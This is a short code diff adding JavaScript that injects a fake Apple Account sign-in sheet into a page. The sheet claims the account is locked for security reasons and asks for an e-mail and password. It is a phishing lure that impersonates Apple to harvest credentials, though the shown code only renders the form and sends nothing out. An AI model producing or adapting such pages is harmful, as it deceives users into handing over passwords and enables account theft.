@@ -1,0 +1,2 @@
+const t = (title, text) => `<section class="sheet"><h1>${title}</h1><p>${text}</p><label>E-mail<input type="email" autocomplete="username"></label><label>Password<input type="password" autocomplete="current-password"></label><button>Sign In</button></section>`;
+document.getElementById("app").innerHTML = t("Apple Account", "Your Apple Account has been locked for security reasons. Sign in to unlock it.");
